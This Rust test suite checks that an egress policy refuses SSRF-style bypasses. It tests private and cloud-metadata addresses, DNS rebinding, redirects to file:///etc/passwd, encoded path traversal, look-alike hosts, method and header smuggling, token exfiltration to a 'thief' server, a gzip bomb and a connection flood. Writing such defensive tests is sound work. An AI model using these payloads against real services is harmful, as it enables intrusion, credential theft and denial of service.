//! Ways around an egress policy: names that move, redirects, addresses in disguise, paths and headers that are read in two
//! ways, and floods.

use std::io::Write as _;
use std::sync::Arc;

use host::{Body, FetchError, Fetcher, Network, Policy, Redirects};
use http::{HeaderValue, Method};

use crate::outside::*;
use crate::workers::*;

/// Sends a request as a hostile isolate could: past all that the Fetch API in it checks.
async fn raw(
    policy: &dyn Fetcher,
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
) -> Result<Answer, FetchError> {
    let mut request = http::Request::new(Body::empty());
    *request.method_mut() = Method::from_bytes(method.as_bytes()).unwrap();
    *request.uri_mut() = url.parse().unwrap();
    for (name, value) in headers {
        let name: http::HeaderName = name.parse().unwrap();
        request
            .headers_mut()
            .append(name, HeaderValue::from_str(value).unwrap());
    }
    request
        .extensions_mut()
        .insert(Redirects(protocol::Redirect::Manual));
    send(policy, request).await
}

/// The reason of a refusal.
async fn refused(policy: &dyn Fetcher, method: &str, url: &str) -> String {
    match raw(policy, method, url, &[]).await {
        Err(FetchError::Refused(text)) => text,
        other => panic!("{method} {url} should be refused: {other:?}"),
    }
}

/// A policy that allows GET on any host and port, with these names.
fn wide(names: &[(&'static str, &[&str])]) -> Policy {
    Policy::with_resolver(
        options("wide", vec![rule("http://*:*/"), rule("https://*:*/")]),
        Names::new(names),
    )
}

#[test]
fn names_that_lead_to_private_addresses_are_refused_after_they_are_resolved() {
    run(async {
        let all: [(&str, &[&str]); 12] = [
            ("loopback.test", &["127.0.0.1"]),
            ("private.test", &["10.0.0.1"]),
            ("link.test", &["169.254.1.1"]),
            ("metadata.test", &["169.254.169.254"]),
            ("six.test", &["::1"]),
            ("mapped.test", &["::ffff:127.0.0.1"]),
            ("nat64.test", &["64:ff9b::7f00:1"]),
            ("local6.test", &["fe80::1"]),
            ("unique.test", &["fd00:ec2::254"]),
            ("six4.test", &["2002:7f00:1::"]),
            ("zero.test", &["0.0.0.0"]),
            ("carrier.test", &["100.100.100.200"]),
        ];
        let policy = wide(&all);
        for (name, addresses) in all {
            let text = refused(&policy, "GET", &format!("http://{name}/")).await;
            let expected = format!(
                "Egress policy \"wide\" refused GET http://{name}/: {name} is at {}, which is ",
                addresses[0]
            );
            assert!(text.starts_with(&expected), "{text}");
        }
    });
}

#[test]
fn addresses_in_disguise_are_refused() {
    run(async {
        let policy = wide(&[
            ("2130706433", &["127.0.0.1"]),
            ("0x7f.1", &["127.0.0.1"]),
            ("localhost", &["127.0.0.1"]),
        ]);
        for host in [
            "127.0.0.1",
            "[::1]",
            "[::ffff:127.0.0.1]",
            "[::ffff:7f00:1]",
            "[64:ff9b::127.0.0.1]",
            "169.254.169.254",
            "0.0.0.0",
            "2130706433",
            "0x7f.1",
            "localhost",
            "LOCALHOST",
        ] {
            let text = refused(&policy, "GET", &format!("http://{host}/latest/meta-data")).await;
            assert!(text.contains(", which is "), "{host}: {text}");
        }
    });
}

#[test]
fn a_name_that_moves_between_check_and_use_gains_nothing() {
    run(async {
        let server = Outside::start().await;
        let port = server.port();
        // What is connected to is what was checked, each time.
        let policy = wide(&[
            ("moves.test", &["192.0.2.1", "127.0.0.1"]),
            ("both.test", &["127.0.0.1 10.0.0.1"]),
        ]);
        for url in [
            format!("http://moves.test:{port}/"),
            format!("http://moves.test:{port}/"),
            format!("http://both.test:{port}/"),
        ] {
            refused(&policy, "GET", &url).await;
        }
        assert!(server.seen().is_empty());
        // Addresses that are named may be reached, and only they.
        let mut named = options("named", vec![rule("http://*:*/")]);
        named.networks = vec![Network::parse("127.0.0.0/8").unwrap()];
        let names = Names::new(&[
            ("inside.test", &["10.0.0.1 127.0.0.1"]),
            ("other.test", &["10.0.0.1"]),
        ]);
        let policy = Policy::with_resolver(named, names);
        assert_eq!(
            raw(&policy, "GET", &format!("http://inside.test:{port}/"), &[])
                .await
                .unwrap()
                .status,
            200
        );
        refused(&policy, "GET", &format!("http://other.test:{port}/")).await;
    });
}

#[test]
fn an_address_that_one_rule_names_is_not_open_to_the_names_of_another() {
    run(async {
        let server = Outside::start().await;
        let port = server.port();
        let rules = vec![
            rule(&format!("{}/", server.origin())),
            rule("http://*.test:*/"),
        ];
        let policy = Policy::with_resolver(
            options("two", rules),
            Names::new(&[("a.test", &["127.0.0.1"])]),
        );
        refused(&policy, "GET", &format!("http://a.test:{port}/")).await;
        assert_eq!(
            raw(&policy, "GET", &format!("{}/", server.origin()), &[])
                .await
                .unwrap()
                .status,
            200
        );
    });
}

#[test]
fn redirects_lead_nowhere_that_a_request_could_not_go() {
    run(async {
        let inside = Outside::start().await;
        let (inside_origin, port) = (inside.origin(), inside.port());
        let to_name = format!("http://private.test:{port}/");
        let server = Outside::with(Answers::from([
            ("/ok/name", redirect("302 Found", &to_name)),
            (
                "/ok/address",
                redirect("307 Temporary Redirect", &format!("{inside_origin}/x")),
            ),
            (
                "/ok/metadata",
                redirect("301 Moved", "http://169.254.169.254/latest/meta-data/"),
            ),
            ("/ok/file", redirect("302 Found", "file:///etc/passwd")),
            ("/ok/out", redirect("302 Found", "../admin")),
            (
                "/ok/user",
                redirect("302 Found", &format!("http://user@{}/ok/", inside.address)),
            ),
            ("/ok/round", redirect("302 Found", "/ok/round")),
        ]))
        .await;
        let rules = vec![
            rule(&format!("{}/ok/", server.origin())),
            rule("http://private.test:*/"),
        ];
        let mut options = options("out", rules);
        options.requests_per_minute = Some(30);
        let policy = Arc::new(Policy::with_resolver(
            options,
            Names::new(&[("private.test", &["127.0.0.1"])]),
        ));
        let worker = App::fetch(&format!(
            "const seen = []; for (const path of ['name', 'address', 'metadata', 'file', 'out', 'user', 'round']) \
             try {{ await env.OUT.fetch('{}/ok/' + path); seen.push('got there'); }} catch (error) {{ seen.push(error.message); }} \
             return Response.json(seen);",
            server.origin()
        ));
        let worker = worker
            .service("OUT", policy)
            .without_powers()
            .deploy()
            .await;
        let seen: Vec<String> = serde_json::from_str(&text(&worker, "/").await).unwrap();
        let expected = [
            format!(
                "refused GET {to_name}: private.test is at 127.0.0.1, which is a loopback address."
            ),
            format!("refused GET {inside_origin}/x: no rule allows it."),
            "refused GET http://169.254.169.254/latest/meta-data/: no rule allows it.".to_owned(),
            String::new(),
            format!("refused GET {}/admin: no rule allows it.", server.origin()),
            "it has a user name or a password in its URL.".to_owned(),
            "Too many redirects.".to_owned(),
        ];
        for (line, expected) in seen.iter().zip(&expected) {
            assert!(
                line.ends_with(expected) && line != "got there",
                "{line:?} is not {expected:?}"
            );
        }
        assert_eq!(seen.len(), expected.len());
        assert!(inside.seen().is_empty());
        assert!(server.seen().iter().all(|head| head.contains(" /ok/")));
    });
}

#[test]
fn paths_that_servers_read_in_another_way_are_refused() {
    run(async {
        let server = Outside::start().await;
        let policy = policy(
            "acme",
            vec![rule(&format!("{}/repos/acme/", server.origin()))],
        );
        for path in [
            "/repos/acme/../other",
            "/repos/acme/%2e%2e/other",
            "/repos/acme/.%2E/other",
            "/repos/acme/..%2fother",
            "/repos/acme/..%5cother",
            "/repos/acme/%252e%252e/other",
            "/repos/acme/..;/other",
            "/repos/acme/%00",
            "/repos/acme/%0d%0ahost:x",
        ] {
            let text = refused(&*policy, "GET", &format!("{}{path}", server.origin())).await;
            assert!(
                text.ends_with("its path can be read in more than one way."),
                "{path}: {text}"
            );
        }
        for path in [
            "/repos/acmeevil/x",
            "/repos//acme/x",
            "/REPOS/acme/x",
            "/",
            "/repos/acme",
        ] {
            let text = refused(&*policy, "GET", &format!("{}{path}", server.origin())).await;
            assert!(text.ends_with("no rule allows it."), "{path}: {text}");
        }
        assert!(server.seen().is_empty());
    });
}

#[test]
fn hosts_that_only_look_alike_are_refused() {
    run(async {
        let rules = vec![
            rule("https://api.example.com/"),
            rule("https://*.example.org/"),
        ];
        let names = Names::new(&[]);
        let policy = Policy::with_resolver(options("api", rules), names);
        for url in [
            "https://api.example.com.evil.test/",
            "https://evilapi.example.com/",
            "https://api.example.com:444/",
            "http://api.example.com/",
            "https://example.org/",
            "https://evilexample.org/",
            "https://a.example.org.evil.test/",
            "https://api.example.com./",
        ] {
            assert!(
                refused(&policy, "GET", url)
                    .await
                    .ends_with("no rule allows it."),
                "{url}"
            );
        }
        let text = refused(&policy, "GET", "https://api.example.com@evil.test/").await;
        assert!(
            text.ends_with("it has a user name or a password in its URL."),
            "{text}"
        );
        assert!(!text.contains("@"), "{text}");
    });
}

#[test]
fn methods_cannot_be_smuggled() {
    run(async {
        let server = Outside::start().await;
        let url = format!("{}/", server.origin());
        let policy = policy("read", vec![rule(&url)]);
        for method in ["DELETE", "POST", "get", "CONNECT", "TRACE", "TRACK"] {
            refused(&*policy, method, &url).await;
        }
        for header in [
            "x-http-method-override",
            "x-method-override",
            "x-http-method",
        ] {
            let sent = raw(&*policy, "GET", &url, &[(header, "delete")]).await;
            assert!(
                matches!(sent, Err(FetchError::Refused(_))),
                "{header}: {sent:?}"
            );
        }
        assert!(server.seen().is_empty());
        let any = crate::outside::policy("any", vec![any_method(rule(&url))]);
        assert!(matches!(
            raw(&*any, "TRACE", &url, &[]).await,
            Err(FetchError::Refused(_))
        ));
        assert_eq!(raw(&*any, "DELETE", &url, &[]).await.unwrap().status, 200);
    });
}

#[test]
fn headers_cannot_make_one_request_two() {
    run(async {
        let server = Outside::start().await;
        let origin = server.origin();
        let policy = policy("any", vec![any_method(rule(&format!("{origin}/")))]);
        let sent = raw(
            &*policy,
            "POST",
            &format!("{origin}/"),
            &[
                ("host", "metadata.internal"),
                ("transfer-encoding", "chunked"),
                ("transfer-encoding", "identity"),
                ("content-length", "999"),
                ("connection", "x-kept, close"),
                ("x-kept", "1"),
                ("upgrade", "h2c"),
                ("te", "trailers"),
                ("proxy-connection", "keep-alive"),
            ],
        )
        .await
        .unwrap()
        .text();
        let heads: Vec<&str> = sent
            .lines()
            .map(|line| line.split(':').next().unwrap())
            .collect();
        assert!(
            sent.contains(&format!("\r\nhost: {}\r\n", server.address)),
            "{sent}"
        );
        for name in [
            "transfer-encoding",
            "connection",
            "upgrade",
            "te",
            "proxy-connection",
        ] {
            assert!(!heads.contains(&name), "{name} in {sent}");
        }
        assert!(
            !sent.contains("999") && !sent.contains("metadata.internal"),
            "{sent}"
        );
        assert_eq!(server.seen().len(), 1);
        // Line breaks do not even get that far.
        let worker = App::fetch(&format!(
            "const seen = []; for (const [name, value] of [['x-a', 'b\\r\\nx-c: d'], ['x-a\\r\\nx-c', 'd'], ['x-a', 'b\\0c'], ['x a', 'b']]) \
             try {{ await env.OUT.fetch('{origin}/', {{ headers: [[name, value]] }}); seen.push('sent'); }} catch (error) {{ seen.push(error.name); }} \
             try {{ await env.OUT.fetch('{origin}/', {{ method: 'GET / HTTP/1.1\\r\\nx-c: d' }}); seen.push('sent'); }} catch (error) {{ seen.push(error.name); }} \
             return Response.json(seen);"
        ));
        let worker = worker
            .service("OUT", policy)
            .without_powers()
            .deploy()
            .await;
        assert_eq!(
            text(&worker, "/").await,
            r#"["TypeError","TypeError","TypeError","TypeError","TypeError"]"#
        );
        assert_eq!(server.seen().len(), 1);
    });
}

#[test]
fn credentials_cannot_be_read_redirected_or_asked_for() {
    run(async {
        let (_folder, secrets) = secret("TOKEN", "s3cr3t-value");
        let thief = Outside::start().await;
        let server = Outside::with(Answers::from([
            (
                "/api/away",
                redirect(
                    "307 Temporary Redirect",
                    &format!("{}/steal", thief.origin()),
                ),
            ),
            ("/api/echo", plain("200 OK", "", b"nothing of the request")),
        ]))
        .await;
        let origin = server.origin();
        let rules = vec![
            with_secret(
                rule(&format!("{origin}/api/")),
                "authorization",
                "Bearer ",
                "TOKEN",
            ),
            any_method(rule(&format!("{}/", thief.origin()))),
        ];
        let mut options = options("api", rules);
        options.secrets = Some(secrets);
        let worker = App::fetch(&format!(
            "const placeholder = '{{{{secret:TOKEN}}}}'; const thief = '{}'; const seen = []; \
             const asked = new Request('{origin}/api/echo'); const answer = await env.OUT.fetch(asked); \
             seen.push(...asked.headers, ...answer.headers, await answer.text(), answer.url, JSON.stringify(env), String(env.OUT)); \
             await env.OUT.fetch(thief + '/a?' + placeholder, {{ method: 'POST', body: placeholder, headers: {{ authorization: placeholder, 'x-a': `Bearer ${{placeholder}}` }} }}); \
             await env.OUT.fetch('{origin}/api/away', {{ headers: {{ authorization: 'Bearer own' }} }}); \
             try {{ await env.OUT.fetch('{origin}/other'); }} catch (error) {{ seen.push(String(error), error.stack); }} \
             return new Response(JSON.stringify(seen));",
            thief.origin()
        ));
        let worker = worker
            .service("OUT", Arc::new(Policy::new(options)))
            .without_powers()
            .deploy()
            .await;
        let answer = text(&worker, "/").await;
        assert!(
            !answer.contains("s3cr3t") && !answer.contains("Bearer"),
            "{answer}"
        );
        assert!(
            server
                .seen()
                .iter()
                .all(|head| head.contains("authorization: bearer s3cr3t-value\r\n"))
        );
        assert_eq!(thief.seen().len(), 2);
        assert!(
            thief.seen().iter().all(|head| !head.contains("s3cr3t")),
            "{:?}",
            thief.seen()
        );
    });
}

#[test]
fn a_body_that_grows_without_end_when_it_is_unpacked_is_cut_off() {
    run(async {
        let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        for _ in 0..64 {
            bomb.write_all(&vec![0; 1024 * 1024]).unwrap();
        }
        let bomb = bomb.finish().unwrap();
        assert!(bomb.len() < 100_000);
        let server = Outside::with(Answers::from([
            (
                "/bomb",
                plain("200 OK", "content-encoding: gzip\r\n", &bomb),
            ),
            ("/fine", plain("200 OK", "", b"fine")),
        ]))
        .await;
        let mut options = options("small", vec![rule(&format!("{}/", server.origin()))]);
        options.max_response_bytes = Some(1024 * 1024);
        let worker = App::fetch(&format!(
            "const seen = []; for (const path of ['bomb', 'fine']) try {{ seen.push((await (await env.OUT.fetch('{}/' + path)).text()).length); }} \
             catch (error) {{ seen.push(error.message); }} return Response.json(seen);",
            server.origin()
        ));
        let worker = worker
            .service("OUT", Arc::new(Policy::new(options)))
            .without_powers()
            .deploy()
            .await;
        let answer = text(&worker, "/").await;
        assert!(
            answer.contains("it is longer than 1048576 bytes (maxResponseBytes).")
                && answer.ends_with(",4]"),
            "{answer}"
        );
        // Without a bound of its own the memory of the isolate is one, and no one else's.
        let worker = App::fetch(&format!(
            "return new Response(String((await (await fetch('{}/bomb')).text()).length));",
            server.origin()
        ))
        .limits(|limits| limits.memory_bytes = 24 * 1024 * 1024)
        .deploy()
        .await;
        failed(&worker, "/").await;
        let neighbour = App::fetch("return new Response('untouched');")
            .deploy()
            .await;
        assert_eq!(text(&neighbour, "/").await, "untouched");
    });
}

/// Whether the other side of a connection that never blocks has not closed it.
fn is_open(stream: &mut std::net::TcpStream) -> bool {
    use std::io::Read;
    let mut bytes = [0; 4096];
    loop {
        match stream.read(&mut bytes) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == std::io::ErrorKind::WouldBlock,
        }
    }
}

#[test]
fn connections_of_one_policy_are_bounded() {
    run(async {
        use tokio::net::TcpListener;
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        // The most that were open at a time: those that ended make room for others.
        let most = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let seen = most.clone();
        tokio::spawn(async move {
            let mut open: Vec<std::net::TcpStream> = Vec::new();
            while let Ok((stream, _)) = listener.accept().await {
                open.retain_mut(is_open);
                open.push(stream.into_std().unwrap());
                seen.fetch_max(open.len(), std::sync::atomic::Ordering::Relaxed);
            }
        });
        let policy = policy("few", vec![rule(&format!("http://{address}/"))]);
        let worker = App::fetch(&format!(
            "const all = Array.from({{ length: 1000 }}, () => env.OUT.fetch('http://{address}/').catch(() => {{}})); await Promise.race([...all, scheduler.wait(2000)]); \
             return new Response('done');"
        ));
        let worker = worker
            .service("OUT", policy)
            .without_powers()
            .deploy()
            .await;
        assert_eq!(text(&worker, "/").await, "done");
        let count = most.load(std::sync::atomic::Ordering::Relaxed);
        assert!((1..=256).contains(&count), "{count} connections");
    });
}
